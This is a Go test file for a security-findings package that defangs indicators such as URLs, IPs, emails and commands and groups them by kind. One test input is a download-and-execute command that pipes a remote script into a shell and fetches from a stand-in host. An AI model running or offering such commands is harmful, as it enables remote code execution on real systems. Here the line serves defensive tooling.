package finding

import "testing"

func TestDefanged(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		in   Indicator
		want string
	}{
		{Indicator{URL, "https://a.example/b.c?d=e.f"}, "hxxps://a[.]example/b.c?d=e.f"},
		{Indicator{URL, "ftp://203.0.113.7"}, "ftp://203[.]0[.]113[.]7"},
		{Indicator{IP, "203.0.113.7"}, "203[.]0[.]113[.]7"},
		{Indicator{IP, "2001:db8::7"}, "2001[:]db8[:][:]7"},
		{Indicator{Port, "203.0.113.7:80"}, "203[.]0[.]113[.]7:80"},
		{Indicator{Domain, "a.example"}, "a[.]example"},
		{Indicator{Email, "a@b.example"}, "a[at]b[.]example"},
		{Indicator{Path, "/tmp/a.b"}, "/tmp/a.b"},
		{Indicator{Command, "curl -s 'HTTPS://a.example/b.sh'|sh; wget http://203.0.113.7:80"}, "curl -s 'hxxps://a[.]example/b.sh'|sh; wget hxxp://203[.]0[.]113[.]7:80"},
		{Indicator{Command, "ls a.b"}, "ls a.b"},
		{Indicator{Command, "a\x1b[2J\u202eb\n"}, "a [2J b "},
	} {
		if got := test.in.Defanged(); got != test.want {
			t.Errorf("%q, want %q", got, test.want)
		}
	}
}

func TestIndicatorsByKind(t *testing.T) {
	t.Parallel()
	var in Indicators
	for _, k := range Kinds {
		in.Add(Indicator{k, string(k)})
	}
	in.Add(Indicator{"unheard of", "x"})
	for _, k := range Kinds {
		if got := in.Of(k); len(got) != 1 || got[0] != string(k) {
			t.Errorf("of kind %s: %q", k, got)
		}
	}
	if got := in.Of("unheard of"); got != nil {
		t.Errorf("of an unknown kind: %q", got)
	}
}
